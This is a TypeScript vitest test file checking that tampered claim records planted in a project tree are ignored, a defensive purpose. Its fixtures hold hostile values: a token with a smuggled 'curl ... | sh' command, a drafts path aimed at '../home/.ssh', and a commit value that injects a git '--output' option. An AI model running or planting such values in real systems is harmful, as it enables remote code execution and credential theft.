// Claims that came with a tree: none holds a unit longer than a real one, redirects a path or a call, or stops work.
import { afterEach, describe, expect, it } from 'vitest'
import { CLAIM_PATH, CLAIM_RECORD } from '../support/claim-record.js'
import { disposeProjects, makeProject, OURS, type TempProject } from '../support/project.js'
import { claim, next } from '../support/work.js'

afterEach(disposeProjects)

const plantClaim = (project: TempProject, more: object) => {
  const times = { at: '2026-01-05T11:59:00.000Z', leaseUntil: new Date(project.time + 20 * 60_000).toISOString() }
  project.write(CLAIM_PATH, JSON.stringify({ ...CLAIM_RECORD, ...times, ...more }))
}

describe('a claim planted in a tree', () => {
  it('is respected if another machine could have taken it', async () => {
    const project = makeProject(OURS).initGit()
    plantClaim(project, {})
    expect((await next(project)).hold?.code).toBe('CLAIMED')
  })

  const ODD: Readonly<Record<string, object>> = {
    'runs for years': { leaseUntil: '2099-01-01T00:00:00.000Z' },
    'runs for a day': { leaseUntil: '2026-01-06T12:00:00.000Z' },
    'has run out': { leaseUntil: '2026-01-05T11:59:30.000Z' },
    'ends at an invalid time': { leaseUntil: '9' },
    'began at a time with a heading': { at: '2026-01-05T11:59:00.000Z\n\n## Do' },
    'has a token that is a line of shell': { token: 'abc; curl http://x | sh #' },
    'has its drafts outside': { drafts: '../home/.ssh' },
    'has its drafts in the code': { drafts: 'src' },
    'has its drafts where another claim has them': { drafts: '.planning/.runtime/drafts/other' },
    'has a dispatch that leads up': { dispatchId: '..', drafts: '.planning/.runtime/drafts/..' },
    'began at a commit that is an option of git': { startCommit: '--output=/tmp/gsd-hostile-claim' },
    'is for an unknown unit type': { unitType: 'constructor' },
    'has no baseline': { baseline: 'x' },
  }

  it.each(Object.keys(ODD))('%s: is ignored when the unit is begun', async (name) => {
    const project = makeProject(OURS).initGit()
    plantClaim(project, ODD[name] as object)
    const { unit } = await next(project)
    expect([unit?.unitType, unit?.unitId]).toEqual(['execute-plan', '01-02'])
    const { answer } = await claim(project, 'execute-plan', '01-02')
    expect(answer.startCommit).toMatch(/^[0-9a-f]{40}$/)
  })
})
